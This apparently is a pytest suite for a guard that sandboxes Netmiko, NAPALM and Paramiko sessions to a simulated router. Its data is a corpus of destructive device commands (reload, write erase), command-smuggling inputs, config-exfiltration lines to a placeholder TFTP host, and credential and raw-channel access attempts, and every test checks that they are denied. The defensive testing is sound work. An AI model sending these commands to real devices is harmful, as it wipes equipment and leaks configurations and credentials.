"""The attack corpus: what a task may try against a real SSH session, kept as data, and what becomes of the device."""

from __future__ import annotations

import contextlib
import copy
import pickle
import threading
from collections.abc import Callable, Iterator
from typing import Any

import pytest
from nornir.core.task import Task

from nornflow.errors import GuardDenied
from nornflow.model.permission import LineRule
from nornflow.testing import Fleet, Router
from nornflow.testing.guarded import GuardedNetwork
from nornflow_napalm.guard import NapalmGuard
from nornflow_netmiko.guard import NetmikoGuard
from nornflow_netmiko.paramiko_guard import ParamikoGuard

PASSWORD = "simulated-login"
PWNED = "hostname PWNED"

LINES = [
    "reload",
    "relo",
    "wr er",
    "write erase",
    "erase startup-config",
    "clear counters",
    "configure replace flash:evil force",
    "configure memory",
    "copy tftp://192.0.2.9/evil running-config",
    "copy running-config tftp://192.0.2.9/loot",
    "show running-config | redirect tftp://192.0.2.9/loot",
    "show running-config | append flash:loot",
    "show run | inc x|tee flash:loot",
    "show version ; reload",
    "show version\nconfigure terminal\nhostname PWNED\nend",
    "show version\rconfigure terminal\rhostname PWNED\rend",
    "show version\x03reload",
    "sh\x08\x08reload",
    "show version\x15reload",
    "show vers\treload",
    "\x1areload",
    "tclsh",
    "do reload",
    "do-exec reload",
    "enable 15",
    "delete flash:vlan.dat",
    "debug all",
    "terminal shell",
    "more nvram:startup-config",
    "telnet 192.0.2.9",
    "ssh -l root 192.0.2.9",
    "test crash",
    "send * hello",
    "exit",
    "\u202eshow version",
]
"""Lines that are no reads; each goes through every method that takes a command."""

CONFIG_LINES = ["do reload", "do wr er", "do-exec relo", "alias exec sh reload", "privilege exec level 0 reload",
                "event manager applet x", "kron policy-list x", "reload", "write erase", "macro name x"]  # fmt: skip
"""Lines that do harm from within configuration mode."""

Connection = Any
COMMANDS: dict[str, Callable[[Connection, str], Any]] = {
    "send_command": lambda c, line: c.send_command(line, read_timeout=2),
    "send_command_expect": lambda c, line: c.send_command_expect(command_string=line, read_timeout=2),
    "send_command_timing": lambda c, line: c.send_command_timing(line, last_read=0.1, read_timeout=2),
    "send_multiline": lambda c, line: c.send_multiline([line], read_timeout=2),
    "send_multiline pairs": lambda c, line: c.send_multiline([[line, ""]], read_timeout=2),
    "send_multiline_timing": lambda c, line: c.send_multiline_timing([line], last_read=0.1, read_timeout=2),
}
OTHER_WAYS: dict[str, Callable[[Connection, str], Any]] = {
    "save_config": lambda c, line: c.save_config(cmd=line),
    "enable": lambda c, line: c.enable(cmd=line, check_state=False),
    "config_mode": lambda c, line: c.config_mode(config_command=line),
    "exit_enable_mode": lambda c, line: c.exit_enable_mode(exit_command=line),
    "config_mode_command": lambda c, line: c.send_config_set([PWNED], config_mode_command=line),
    "enter_config_mode": lambda c, line: c.send_config_set(
        [line], enter_config_mode=False, cmd_verify=False, read_timeout=1
    ),
}
OBJECT_ATTACKS: dict[str, Callable[[Task, Connection], Any]] = {
    "write_channel": lambda t, c: c.write_channel("reload\n"),
    "channel.write_channel": lambda t, c: c.channel.write_channel("reload\n"),
    "remote_conn": lambda t, c: c.remote_conn.sendall(b"reload\n"),
    "remote_conn_pre": lambda t, c: c.remote_conn_pre.exec_command("reload"),
    "second session by transport": lambda t, c: c.remote_conn.transport.open_session().exec_command("reload"),
    "sftp": lambda t, c: c.remote_conn_pre.open_sftp(),
    "class trick": lambda t, c: type(c).__getattribute__(c, "remote_conn"),
    "driver's own method": lambda t, c: c.__class__.write_channel(c, "reload\n"),
    "driver's send_config_set": lambda t, c: c.__class__.send_config_set(c, [PWNED]),
    "__dict__": lambda t, c: c.__dict__["remote_conn"],
    "vars": lambda t, c: vars(c),
    "__reduce__": lambda t, c: pickle.dumps(c),
    "copy": lambda t, c: copy.copy(c),
    "deepcopy": lambda t, c: copy.deepcopy(c),
    "set attribute": lambda t, c: setattr(c, "write_channel", print),
    "delete attribute": lambda t, c: delattr(c, "base_prompt"),
    "set class": lambda t, c: setattr(c, "__class__", object),
    "password": lambda t, c: c.password,
    "secret": lambda t, c: c.secret,
    "disconnect": lambda t, c: c.disconnect(),
    "establish_connection": lambda t, c: c.establish_connection(),
    "_read_buffer": lambda t, c: c._read_buffer,
    "redispatch": lambda t, c: __import__("netmiko").redispatch(c, "linux"),
    "file_transfer": lambda t, c: __import__("netmiko").file_transfer(c, source_file="/etc/passwd", dest_file="x"),
    "unknown connection": lambda t, c: t.host.get_connection("scrapli", t.nornir.config),
    "open with a password": lambda t, c: t.host.open_connection("netmiko", t.nornir.config, password="x"),
    "open elsewhere": lambda t, c: t.host.open_connection("netmiko", t.nornir.config, hostname="192.0.2.9"),
    "change the address": lambda t, c: setattr(t.host, "hostname", "192.0.2.9"),
    "change the class": lambda t, c: setattr(t.host, "__class__", type(t.host).__mro__[2]),
    "other host": lambda t, c: t.nornir.inventory.hosts["r2"].get_connection("netmiko", t.nornir.config),
    "nested run": lambda t, c: t.nornir.run(
        task=lambda task: task.host.get_connection("netmiko", None)
    ).raise_on_error(),
    "held connection": lambda t, c: t.host.connections["netmiko"].connection.write_channel("reload\n"),
    "the session of the host": lambda t, c: t.host.sessions(object()),
}


@pytest.fixture(scope="module")
def routers() -> Iterator[Fleet]:
    with Fleet(2, prefix="r") as fleet:
        yield fleet


@pytest.fixture(scope="module")
def network(routers: Fleet) -> Iterator[GuardedNetwork]:
    with GuardedNetwork(routers.inventory(), [NetmikoGuard(), NapalmGuard(), ParamikoGuard()]) as network:
        yield network


@pytest.fixture
def unharmed(routers: Fleet) -> Iterator[Router]:
    """The router; whatever the test does must leave it as it was."""
    router = routers["r1"]

    def state() -> tuple[str, str, int, int, int]:
        counters = router.counters
        return router.running_config, router.startup_config, counters.saves, counters.reloads, counters.config_lines

    before = state()
    yield router
    assert state() == before


def _netmiko(task: Task) -> Connection:
    return task.host.get_connection("netmiko", task.nornir.config)


def _try(attempts: dict[str, Callable[[], Any]]) -> dict[str, BaseException | Any]:
    """Make every attempt, whatever the one before raised, as a task that swallows exceptions would."""
    outcomes: dict[str, Any] = {}
    for name, attempt in attempts.items():
        try:
            outcomes[name] = attempt()
        except Exception as error:  # noqa: BLE001 - an attacker swallows everything
            outcomes[name] = error
    return outcomes


@pytest.mark.parametrize("line", LINES, ids=repr)
def test_no_command_gets_through_while_planning(line: str, network: GuardedNetwork, unharmed: Router) -> None:
    def attack(task: Task) -> dict[str, Any]:
        return _try({name: lambda way=way: way(_netmiko(task), line) for name, way in COMMANDS.items()})

    outcome = network.plan("r1", attack)

    assert outcome.error is None
    assert all(isinstance(answer, GuardDenied) for answer in outcome.result.values()), outcome.result
    assert len(outcome.report.denials) >= len(COMMANDS)
    assert outcome.report.captured == []


@pytest.mark.parametrize("line", LINES, ids=repr)
def test_no_command_gets_through_when_nothing_is_sealed(line: str, network: GuardedNetwork, unharmed: Router) -> None:
    def attack(task: Task) -> dict[str, Any]:
        return _try({name: lambda way=way: way(_netmiko(task), line) for name, way in COMMANDS.items()})

    outcome = network.apply("r1", attack, grant={"sealed": ()})

    assert all(isinstance(answer, GuardDenied) for answer in outcome.result.values()), outcome.result


@pytest.mark.parametrize(
    "line", ["reload", "wr er", "show version\nreload", "configure replace flash:x", "do reload"], ids=repr
)
@pytest.mark.parametrize("way", OTHER_WAYS)
def test_no_argument_of_another_method_gets_through(
    way: str, line: str, network: GuardedNetwork, unharmed: Router
) -> None:
    def attack(task: Task) -> Any:
        return OTHER_WAYS[way](_netmiko(task), line)

    for outcome in (network.plan("r1", attack), network.apply("r1", attack, grant={"sealed": ()})):
        assert isinstance(outcome.error, GuardDenied), outcome
        assert outcome.report.denials


@pytest.mark.parametrize("line", CONFIG_LINES)
def test_no_configuration_line_does_more_than_configure(line: str, network: GuardedNetwork, unharmed: Router) -> None:
    def attack(task: Task) -> Any:
        return _netmiko(task).send_config_set(["interface Loopback0", line])

    for outcome in (network.plan("r1", attack), network.apply("r1", attack)):
        assert isinstance(outcome.error, GuardDenied)
        assert outcome.report.captured == []
        assert outcome.report.sent == []


@pytest.mark.parametrize("attack", OBJECT_ATTACKS)
def test_no_attribute_leads_to_the_channel_or_the_credentials(
    attack: str, network: GuardedNetwork, unharmed: Router
) -> None:
    def task(task: Task) -> Any:
        return OBJECT_ATTACKS[attack](task, _netmiko(task))

    outcome = network.plan("r1", task)

    assert outcome.error is not None, outcome.result
    assert PASSWORD not in repr(outcome)


def test_a_walk_over_attributes_finds_neither_a_channel_nor_the_password(
    network: GuardedNetwork, unharmed: Router
) -> None:
    import paramiko

    def walk(task: Task) -> list[str]:
        found: list[str] = []
        seen: set[int] = set()
        todo: list[tuple[str, Any]] = [("task", task), ("connection", _netmiko(task))]
        while todo:
            path, thing = todo.pop()
            if id(thing) in seen or len(seen) > 20_000 or path.count(".") > 5:
                continue
            seen.add(id(thing))
            if isinstance(thing, (paramiko.Transport, paramiko.SSHClient)) or (
                thing == PASSWORD and type(thing) is str
            ):
                found.append(path)
            if isinstance(thing, dict):
                todo += [(f"{path}.{key}", value) for key, value in thing.items()]
            if isinstance(thing, (list, tuple)):
                todo += [(f"{path}.{number}", value) for number, value in enumerate(thing)]
            if type(thing).__module__.startswith(("nornir", "nornflow", "netmiko", "paramiko")):
                for name in dir(thing):
                    with contextlib.suppress(Exception):
                        todo.append((f"{path}.{name}", getattr(thing, name)))
        return found

    outcome = network.plan("r1", walk)

    assert outcome.result == []


def test_passwords_read_as_masks_everywhere(network: GuardedNetwork, unharmed: Router) -> None:
    def read(task: Task) -> list[str]:
        host = task.host
        return [
            host.password,
            host.get_connection_parameters("netmiko").password,
            host.get_connection_parameters("netmiko").password + "",
            str(host.dict()),
            str(task.nornir.inventory.dict()),
            f"{host.get('password')}",
        ]

    outcome = network.plan("r1", read)

    assert all(PASSWORD not in text for text in outcome.result)
    assert network.redactor.text(PASSWORD) == "********"


def test_the_connection_is_dead_once_its_step_is_over_in_every_thread(
    network: GuardedNetwork, unharmed: Router
) -> None:
    kept: list[Any] = []

    def keep(task: Task) -> None:
        connection = _netmiko(task)
        kept.extend([connection, connection.send_command, connection.send_config_set])

    network.plan("r1", keep)
    errors: list[BaseException] = []

    def use() -> None:
        for attempt in (lambda: kept[0].base_prompt, lambda: kept[1]("show version"), lambda: kept[2]([PWNED])):
            try:
                attempt()
            except GuardDenied as error:
                errors.append(error)

    use()
    thread = threading.Thread(target=use)
    thread.start()
    thread.join()

    assert len(errors) == 6


def test_a_lease_does_not_reach_into_another_thread(network: GuardedNetwork, unharmed: Router) -> None:
    def spawn(task: Task) -> list[BaseException]:
        errors: list[BaseException] = []

        def use() -> None:
            try:
                _netmiko(task)
            except GuardDenied as error:
                errors.append(error)

        thread = threading.Thread(target=use)
        thread.start()
        thread.join()
        return errors

    assert len(network.plan("r1", spawn).result) == 1


def test_without_a_lease_nothing_opens(network: GuardedNetwork, unharmed: Router) -> None:
    with pytest.raises(GuardDenied, match="no step holds a lease"):
        network.hosts["r1"].get_connection("netmiko", network.nornir.config)


def test_a_swallowed_denial_stays_on_record_and_the_next_use_gets_a_fresh_session(
    network: GuardedNetwork, routers: Fleet, unharmed: Router
) -> None:
    def swallow(task: Task) -> str:
        with contextlib.suppress(Exception):
            _netmiko(task).save_config(cmd="reload")
        return str(_netmiko(task).send_command("show clock"))

    outcome = network.plan("r1", swallow)

    assert outcome.error is None
    assert "UTC" in outcome.result
    assert any("reload" in denial for denial in outcome.report.denials)


def test_a_denied_line_never_arrives_under_any_permission(network: GuardedNetwork, unharmed: Router) -> None:
    deny = (
        LineRule(r"^interface Loopback0 / shutdown", where="site.yaml:4"),
        LineRule(r"^(reload|write erase)", on="exec", where="site.yaml:5"),
    )
    everything = {"permissions": ("device.*",), "deny": deny}

    def attack(task: Task) -> dict[str, Any]:
        def raw(text: str) -> Callable[[], Any]:
            return lambda: _netmiko(task).write_channel(text)

        return _try(
            {
                "reload": lambda: _netmiko(task).send_command_timing("relo"),
                "erase": lambda: _netmiko(task).send_command_timing("wr er"),
                "block": lambda: _netmiko(task).send_config_set(["int lo0", "shut"]),
                "do": lambda: _netmiko(task).send_config_set(["int lo0", "do rel"]),
                "raw": raw("reload\n"),
                "raw in pieces": lambda: [_netmiko(task).write_channel(piece) for piece in ("r", "elo", "ad\n")],
                "raw, edited": raw("xx\x08\x08reload\n"),
                "raw, completed": raw("relo\t\n"),
            }
        )

    outcome = network.apply("r1", attack, grant=everything)

    assert all(isinstance(answer, GuardDenied) for answer in outcome.result.values()), outcome.result
    assert any("site.yaml:4" in denial for denial in outcome.report.denials)


NAPALM_ATTACKS: dict[str, Callable[[Connection], Any]] = {
    "cli": lambda c: c.cli(["reload"]),
    "cli redirect": lambda c: c.cli(["show run | redirect flash:x"]),
    "ping": lambda c: c.ping("192.0.2.1\nconf t\nhostname PWNED"),
    "traceroute": lambda c: c.traceroute("192.0.2.1\rreload"),
    "getter argument": lambda c: c.get_route_to("0.0.0.0/0\nreload"),
    "device": lambda c: c.device.send_config_set([PWNED]),
    "_netmiko_device": lambda c: c._netmiko_device.write_channel("reload\n"),
    "_send_command": lambda c: c._send_command("reload"),
    "_commit_handler": lambda c: c._commit_handler("configure replace flash:x"),
    "rollback": lambda c: c.rollback(),
    "replace": lambda c: c.load_replace_candidate(config=PWNED),
    "candidate with a command": lambda c: c.load_merge_candidate(config="interface Loopback0\n do reload"),
    "candidate that leaves": lambda c: c.load_merge_candidate(config="hostname x\nend\nreload"),
    "close": lambda c: c.close(),
    "password": lambda c: c.password,
}


@pytest.mark.parametrize("attack", NAPALM_ATTACKS)
def test_napalm_has_no_way_around(attack: str, network: GuardedNetwork, unharmed: Router) -> None:
    def task(task: Task) -> Any:
        return NAPALM_ATTACKS[attack](task.host.get_connection("napalm", task.nornir.config))

    for outcome in (network.plan("r1", task), network.apply("r1", task, grant={"sealed": ()})):
        assert isinstance(outcome.error, GuardDenied), outcome
        assert outcome.report.denials


PARAMIKO_ATTACKS: dict[str, Callable[[Connection], Any]] = {
    "exec_command": lambda c: c.exec_command("reload"),
    "two lines": lambda c: c.exec_command("show version\nreload"),
    "open_session": lambda c: c.get_transport().open_session().exec_command("reload"),
    "shell": lambda c: c.invoke_shell().send(b"reload\n"),
    "shell in pieces": lambda c: [c.invoke_shell().send(piece) for piece in (b"rel", b"oad", b"\r")],
    "shell's exec": lambda c: c.invoke_shell().exec_command("reload"),
    "shell's subsystem": lambda c: c.invoke_shell().invoke_subsystem("sftp"),
    "shell's transport": lambda c: c.invoke_shell().get_transport(),
    "shell's real channel": lambda c: c.invoke_shell()._real.sendall(b"reload\n"),
    "open_sftp": lambda c: c.open_sftp(),
    "_transport": lambda c: c._transport,
    "connect": lambda c: c.connect("192.0.2.9"),
}


@pytest.mark.parametrize("attack", PARAMIKO_ATTACKS)
def test_paramiko_has_no_way_around(attack: str, network: GuardedNetwork, unharmed: Router) -> None:
    def task(task: Task) -> Any:
        return PARAMIKO_ATTACKS[attack](task.host.get_connection("paramiko", task.nornir.config))

    for outcome in (network.plan("r1", task), network.apply("r1", task, grant={"sealed": ()})):
        assert outcome.error is not None, outcome
